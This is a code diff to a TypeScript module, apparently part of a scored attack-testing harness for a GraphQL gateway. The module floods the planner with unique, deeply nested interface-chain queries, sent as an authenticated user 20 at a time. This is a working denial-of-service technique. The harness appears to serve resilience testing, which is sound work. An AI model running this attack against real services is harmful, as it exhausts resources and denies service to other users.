@@ -1,46 +1,33 @@
 import type { Attack } from './attack.ts';
-
-/** Types that implement the interface of the graph that this attack is made against. */
-const TYPES = 60;
-
-/** A graph whose interface leads to itself. */
-export const CHAIN_SDL = `
-  type Query { shared: Chain! hello: String! }
-  interface Chain { id: ID! name: String next: Chain }
-  ${Array.from({ length: TYPES }, (_, index) => `type Link${index} implements Chain { id: ID! name: String own${index}: String next: Chain }`).join('\n')}
-`;
+import { CHAIN_TYPES } from './attacked-graph.ts';
+import { sendPost } from './send-post.ts';
 
 /** Requests under way at a time. */
 const CONCURRENCY = 20;
-
 const MAX_DEPTH = 8;
 
 /** Nests the interface, with fragments on some of its types, so that no two operations are alike. */
 function chainOf(index: number): string {
   let text = '{ id name }';
-  for (let level = 0; level < 1 + (index % MAX_DEPTH); level += 1) {
-    const type = (index * 7 + level * 13) % TYPES;
-    text = `{ id ... on Link${type} { own${type} } next ${text} }`;
+  for (let level = 0; level < 3 + (index % (MAX_DEPTH - 2)); level += 1) {
+    // The innermost levels write down the number, which makes each operation another one.
+    const type = Math.floor(index / CHAIN_TYPES ** (level % 3)) % CHAIN_TYPES;
+    const other = (index * 11 + level * 17) % CHAIN_TYPES;
+    text = `{ id ... on Link${type} { own${type} } ... on Link${other} { name } next ${text} }`;
   }
-  return `query Chain${index} { shared ${text} }`;
+  return `{ shared ${text} }`;
 }
 
-/** Sends operations that chain an interface field, each one new to the planner. */
+/** Operations of a signed-in user that chain an interface of 60 types, each one new to the planner, 20 at a time. */
 export const interfaceChains: Attack = {
   name: 'interface-chains',
   point: 2,
-  async run({ url }, signal) {
-    let sent = 0;
+  minRate: 1,
+  async run(target, tally, signal) {
+    const headers = { authorization: `Bearer ${target.userToken}` };
     const work = async (): Promise<void> => {
       while (!signal.aborted) {
-        sent += 1;
-        const body = JSON.stringify({ query: chainOf(sent) });
-        try {
-          const response = await fetch(`${url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body, signal });
-          await response.arrayBuffer();
-        } catch {
-          // The gateway may refuse the connection; the next operation is sent all the same.
-        }
+        await sendPost(target, JSON.stringify({ query: chainOf(tally.sent) }), { headers, tally, signal });
       }
     };
     await Promise.all(Array.from({ length: CONCURRENCY }, work));
